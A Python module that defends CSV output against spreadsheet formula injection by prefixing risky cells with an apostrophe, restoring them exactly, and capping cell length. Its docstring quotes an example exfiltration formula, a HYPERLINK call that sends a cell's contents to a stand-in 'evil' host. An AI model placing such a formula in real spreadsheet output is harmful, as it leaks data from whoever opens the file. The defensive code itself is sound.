"""Text bound for a spreadsheet cell: formula neutralisation, and its exact inverse. Pure.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by Excel,
LibreOffice and Google Sheets as a formula (OWASP, "CSV Injection"): a page title
``=HYPERLINK("http://evil/?"&A1, "…")`` in reports.csv would run when an analyst opens the file.
Such a cell gets a leading apostrophe, which spreadsheets take as "this is text". A cell that
already starts with an apostrophe gets one more, so that ``restore_cell`` can give back exactly
what was written: the release's own readers (its change log, the site) show the true text.
Numbers are never passed through here: a negative figure stays a number.
"""

from __future__ import annotations

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# The longest text cell a release table holds (characters). Text from government sites is
# untrusted: one page whose <title> was 160,000 characters, or a report listed under 100,000
# URLs, made a cell larger than the CSV readers' field limit (131,072) and Arrow's read block,
# and every later night failed on it. A longer cell is cut, and says so at its end (CUT_MARK).
MAX_CELL = 32_768
# Every reader of a release's CSV sets this field limit explicitly: far above MAX_CELL, so that a
# release written before cells were bounded still reads.
CSV_FIELD_LIMIT = 1 << 24
CUT_MARK = " …[cut: {} characters]"
_ESCAPED = (*FORMULA_TRIGGERS, "'")


def neutralise_cell(value: str) -> str:
    """The cell as written to CSV: a leading ' when a spreadsheet would read it as a formula."""
    return "'" + value if value.startswith(_ESCAPED) else value


def restore_cell(cell: str) -> str:
    """The text a CSV cell written by ``neutralise_cell`` stands for."""
    return cell[1:] if cell.startswith("'") else cell


def bound_cell(value: str, limit: int = MAX_CELL) -> str:
    """The cell, cut to ``limit`` characters (marker included) when longer; the marker says how
    long the text was, so a cut cell is never taken for the whole text."""
    if len(value) <= limit:
        return value
    mark = CUT_MARK.format(f"{len(value):,}")
    return value[: limit - len(mark)] + mark
